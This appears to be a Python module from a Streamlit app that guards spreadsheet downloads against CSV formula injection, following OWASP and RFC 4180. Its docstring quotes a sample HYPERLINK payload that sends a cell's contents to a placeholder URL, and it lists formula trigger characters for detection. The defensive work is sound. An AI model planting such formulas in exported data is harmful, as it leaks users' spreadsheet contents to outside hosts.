"""CSV text for the app's downloads, safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice Calc and Google Sheets as a formula, so a custom GPU named
``=HYPERLINK("https://...?leak="&A1,"Click")`` would put a live link (or worse) into a
downloaded table. :func:`csv_text` prefixes such string cells with a single quote, which the
spreadsheet takes as "this is text" (OWASP, CSV Injection,
https://owasp.org/www-community/attacks/CSV_Injection). Numbers are left as they are, and so is
a string that is a plain number (``-3``, ``+1.5e3``): a spreadsheet reads it as that number,
never as a formula; so is a lone ``-``, a table's "nothing here" mark. Rows end in CRLF and
cells holding the delimiter, a quote or a line break are quoted, embedded quotes doubled (RFC 4180,
section 2), as the same guidance asks.

Every ``st.download_button`` in the app passes its data through :func:`csv_text`, directly or deferred
to the click (:func:`deferred_csv`; tests/test_uploads.py checks the call sites).
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # annotations only: pandas is imported by the pages that build tables
    from collections.abc import Callable

    import pandas as pd

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP, CSV Injection)."""

_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
"""A decimal number and nothing else: read as a number by a spreadsheet, so left unquoted."""


PLACEHOLDERS = ("-",)
"""Cells that start like a formula but are a table's "nothing here" mark: a lone dash runs nothing, and a quote in
front of it showed as ``'-`` in a downloaded Notes column (QA)."""


def neutralize(value: object) -> object:
    """``value`` with a leading ``'`` when it is a string a spreadsheet would run as a formula; else unchanged."""
    if (isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and value not in PLACEHOLDERS
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


def csv_text(table: pd.DataFrame) -> str:
    """``table`` as CSV text (no index) with every formula-like string cell and column name neutralized.

    Only columns that can hold text are looked at (object, string and categorical dtypes); numeric,
    boolean and date columns are written as they are.
    """
    from pandas.api.types import is_object_dtype, is_string_dtype  # noqa: PLC0415 - loaded by table pages only
    from pandas import CategoricalDtype  # noqa: PLC0415

    safe = table.copy()
    safe.columns = [neutralize(name) for name in table.columns]
    for i in range(safe.shape[1]):
        column = safe.iloc[:, i]
        if is_object_dtype(column) or is_string_dtype(column) or isinstance(column.dtype, CategoricalDtype):
            safe.isetitem(i, column.map(neutralize))
    # CRLF rows (RFC 4180 section 2.1); it also makes the csv module quote a cell holding a bare CR, which it
    # leaves unquoted when rows end in LF alone (a cell of "\r..." would split its row in two).
    return safe.to_csv(index=False, lineterminator="\r\n")


def deferred_csv(table: Callable[[], pd.DataFrame] | pd.DataFrame) -> Callable[[], str]:
    """:func:`csv_text` of ``table``, built only when the user clicks the download button.

    ``st.download_button`` takes a callable as its data and runs it on the click, not on each rerun (Streamlit
    docs, ``st.download_button``, its ``data`` argument). The Find page built its 1,000-row CSV on every rerun
    (4 ms of a 30 ms script) for a button most reruns never see pressed (issue 27 speed).

    Args:
        table: The rows to download, or a function that builds them (called on the click: the Find page builds
            its 200 rows only then). A table is not copied, so the caller must not change it afterwards.
    """
    return lambda: csv_text(table() if callable(table) else table)
